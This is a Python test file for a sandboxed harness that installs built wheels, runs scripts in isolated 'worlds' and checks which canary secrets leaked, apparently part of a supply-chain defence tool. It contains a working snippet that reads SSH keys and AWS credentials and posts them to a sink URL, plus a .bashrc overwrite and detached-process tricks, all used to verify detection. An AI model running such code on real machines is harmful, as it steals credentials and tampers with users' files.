"""The stage itself: what it builds is real, and what it reports is what happened."""

import sys

from support import envs, guarded, worlds
from support.wheels import Wheel

from importguard import demo_fixture

POST_ALL = """
import os, pathlib, urllib.request
for path in (".ssh/id_ed25519", ".aws/credentials"):
    text = pathlib.Path.home().joinpath(path).read_bytes()
    urllib.request.urlopen(os.environ["SINK"] + "/x", text).close()
"""


def test_a_built_wheel_installs_with_a_record_that_holds(empty_environment, tmp_path):
    """pip takes the wheel, and each hash in the installed RECORD is that of the file."""
    environment = envs.copy(empty_environment, tmp_path / "env")
    wheel = Wheel("Acme.Tools", "1.0", {"acme_tools/__init__.py": "VALUE = 1\n"}, {"acme": "acme_tools:main"})
    check = (
        "import base64, hashlib, importlib.metadata as m\n"
        "for file in m.files('acme-tools'):\n"
        "    if file.hash:\n"
        "        digest = hashlib.new(file.hash.mode, file.locate().read_bytes()).digest()\n"
        "        assert base64.urlsafe_b64encode(digest).decode().rstrip('=') == file.hash.value, file\n"
        "print(m.version('acme-tools'), m.distribution('acme-tools').read_text('INSTALLER').strip())\n"
    )

    envs.install(environment, wheel, folder=tmp_path / "wheels")

    with worlds.furnished(tmp_path / "world", environment) as world:
        outcome = guarded.run(world, [environment.python, "-c", check], mode=guarded.UNGUARDED)
    assert outcome.stdout == "1.0 pip\n", outcome.story()
    assert environment.command("acme").exists()


def test_a_world_reports_what_leaked_and_what_was_written(empty_environment, tmp_path):
    """Evidence names exactly the canaries that reached the sink and the files that changed."""
    with worlds.furnished(tmp_path / "world", empty_environment) as world:
        script = POST_ALL + "pathlib.Path.home().joinpath('.bashrc').write_text('mine')\n"

        outcome = guarded.run(world, [empty_environment.python, "-c", script], mode=guarded.UNGUARDED)

        assert outcome.returncode == 0, outcome.story()
        assert world.evidence() == ["POST:/x", "leaked:aws", "leaked:ssh", "wrote:home/.bashrc"]


def test_a_run_lasts_until_its_last_descendant_has_ended(empty_environment, tmp_path):
    """A worker that detached itself twice has done its work when the run is over."""
    worker = "import os, pathlib, time; time.sleep(0.5); pathlib.Path.home().joinpath('late').touch()"
    script = (
        "import os, subprocess, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        f"    subprocess.Popen([sys.executable, '-c', {worker!r}], env={{'HOME': os.environ['HOME']}},\n"
        "                     stdout=-3, stderr=-3, start_new_session=True)\n"
        "    os._exit(0)\n"
    )
    with worlds.furnished(tmp_path / "world", empty_environment) as world:
        guarded.run(world, [empty_environment.python, "-c", script], mode=guarded.UNGUARDED)

        assert world.evidence() == ["wrote:home/late"]


def test_a_run_that_does_not_end_is_killed_and_says_so(empty_environment, tmp_path):
    """What outlives its time is killed, detached or not, and the status is that of a time-out."""
    script = "import os, signal; os.fork() == 0 and os.setsid(); signal.pause()"
    with worlds.furnished(tmp_path / "world", empty_environment) as world:
        outcome = guarded.run(world, [sys.executable, "-c", script], mode=guarded.UNGUARDED, seconds=1)

    assert outcome.returncode == guarded.TIMED_OUT


def test_the_demo_payload_leaves_a_real_home_alone(empty_environment, tmp_path):
    """Without the file that marks a stage, the collector reads, posts and writes nothing."""
    with worlds.furnished(tmp_path / "world", empty_environment) as world:
        (world.home / demo_fixture.SENTINEL).unlink()
        worlds.settle(world)

        command = [empty_environment.python, "-c", demo_fixture.collector()]
        outcome = guarded.run(world, command, mode=guarded.UNGUARDED)

        assert outcome.returncode == 0, outcome.story()
        assert world.evidence() == []
